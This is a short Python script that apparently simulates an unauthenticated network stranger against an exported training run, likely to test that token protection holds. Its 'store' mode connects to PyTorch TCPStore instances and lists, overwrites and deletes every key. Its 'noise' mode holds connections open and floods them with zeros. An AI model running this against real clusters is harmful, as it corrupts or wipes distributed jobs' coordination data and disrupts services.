"""Somebody on the network of an exported run without its token: `python stranger.py noise`, or `store`.

Both read lines "HOST PORT" from stdin. `noise` sends 64 KiB of zeros to each, over connections that stay open. `store` speaks
to each with torch's client of a store: it lists all keys, overwrites and deletes them, and prints what it could do.
"""

from __future__ import annotations

import contextlib
import datetime
import socket
import sys
import threading


def noise() -> None:
    kept = []
    for line in sys.stdin:
        host, port = line.split()
        with contextlib.suppress(OSError):
            kept.append(socket.create_connection((host, int(port)), 2))
            kept[-1].sendall(bytes(65_536))


def store() -> None:
    from torch.distributed import TCPStore

    def attack(host: str, port: str) -> None:
        try:
            reached = TCPStore(host, int(port), is_master=False, timeout=datetime.timedelta(seconds=1))
            for key in reached.list_keys():
                reached.set(key, "x" * 64)
                reached.delete_key(key)
            print(f"changed the store at {port}", flush=True)
        except RuntimeError:
            print(f"sent away from {port}", flush=True)

    for line in sys.stdin:  # a try lasts a second, and a store may be there for few
        threading.Thread(target=attack, args=line.split(), daemon=True).start()


if __name__ == "__main__":
    {"noise": noise, "store": store}[sys.argv[1]]()
